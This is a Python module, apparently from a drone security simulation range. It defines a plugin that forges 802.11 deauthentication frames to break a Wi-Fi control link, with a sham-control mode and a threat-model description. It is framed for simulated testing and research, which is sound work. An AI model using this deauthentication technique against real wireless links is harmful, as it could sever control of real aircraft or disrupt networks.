"""Deauthentication: forged 802.11 management frames that end the association of a control link over Wi-Fi."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Literal

from pydantic import Field

from skyrange.attack.contract import AirLink, Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.control_link.wifi_links import find_wifi_links
from skyrange.attack.radio import make_sender
from skyrange.codec.wifi_management import FrameRequest, encode_deauthentication, pack_request
from skyrange.contracts.params import Enu, Number, Params
from skyrange.core.time import NS_PER_MS, Time

NOBODY = b"\x02\x00\x00\x00\x00\x00"
"""The receiver of a sham's frames: a locally administered address that no radio has."""


class Deauthenticate(Params):
    """Deauthentication frames in the names of both ends, again and again."""

    transmitter_m: Enu = Field(
        description="Position of the attacker, [east_m, north_m, up_m] in metres from the origin or the "
        "attack's anchor."
    )
    links: tuple[str, ...] = Field(
        default=("gcs:*",), min_length=1, description="Control links over Wi-Fi by name or pattern."
    )
    towards: Literal["both", "aircraft", "station"] = Field(
        default="both", description="Receivers of the frames; each frame is in the name of the link's other end."
    )
    power_dbm: Number = Field(default=20.0, ge=-30, le=60, description="Radiated power (EIRP) in dBm.")
    period_ms: Number = Field(
        default=100.0, ge=1, le=60_000, description="Time between two rounds of frames, in milliseconds."
    )


@dataclass(slots=True)
class FrameRounds:
    """Rounds of one frame to each receiver of each link, one round per period."""

    links: Sequence[AirLink]
    to_aircraft: bool
    to_station: bool
    power_cdbm: int
    period_ns: Time
    sham: bool
    round: int = 0

    @property
    def due(self) -> Time:
        """When the next round is due."""
        return self.round * self.period_ns

    def make(self, now: Time) -> list[bytes]:
        """The round that is due at `now`."""
        if self.due > now:
            return []
        self.round = now // self.period_ns + 1
        frames = []
        for link in self.links:
            if self.to_aircraft:
                frames.append(self._frame(link, link.aircraft_address, link.station_address))
            if self.to_station:
                frames.append(self._frame(link, link.station_address, link.aircraft_address))
        return frames

    def _frame(self, link: AirLink, destination: bytes, source: bytes) -> bytes:
        destination = NOBODY if self.sham else destination
        frame = encode_deauthentication(destination, source, link.station_address, self.round)
        return pack_request(FrameRequest(link.channel, self.power_cdbm, frame))


def make(params: Deauthenticate, context: AttackContext) -> Attack:
    """The attack."""
    rounds = FrameRounds(
        list(find_wifi_links(context, params.links).values()),
        params.towards != "station",
        params.towards != "aircraft",
        round(params.power_dbm * 100),
        round(params.period_ms * NS_PER_MS),
        context.sham,
    )
    return make_sender(context, params.transmitter_m, params.power_dbm, rounds)


DEAUTHENTICATE = AttackPlugin(
    Deauthenticate,
    make,
    "Ends the Wi-Fi association of a control link by forged deauthentication frames.",
    technique="T0814",
    counterfactual="sham",
    surface=("gcs", "medium"),
    persists="acts",
    effect="the control link has no association, so that nothing passes in either direction",
    threat=ThreatModel(
        knowledge="channel and addresses of both radios, which every frame tells",
        position="where both ends can decode its frames",
        equipment="a Wi-Fi card that sends frames as they are handed to it",
        budget="a frame of 30 bytes a link and period",
    ),
    controls=Controls(
        load="the sham: the same frames at the same times, for an address that nobody has",
        content="the same frames at a link that protects management frames",
        placement="the same attacker beyond the range of both ends",
    ),
    realism={
        "reception": "simulated: power, noise and walls between attacker and receiver",
        "new association": "assumed: 400 ms by default; handoffs of 802.11 took 60 to 400 ms in measurements (Mishra, "
        "Shin & Arbaugh, 2003)",
    },
)
"""The attack `control_link.deauthenticate`."""
